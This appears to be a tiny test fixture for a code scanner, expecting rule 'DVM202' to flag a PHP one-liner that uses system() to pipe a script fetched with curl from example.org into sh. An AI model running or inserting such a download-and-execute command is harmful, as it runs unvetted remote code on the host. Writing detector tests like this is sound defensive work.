# expect: DVM202
php -r 'system("curl -fsSL https://example.org/i.sh | sh");'
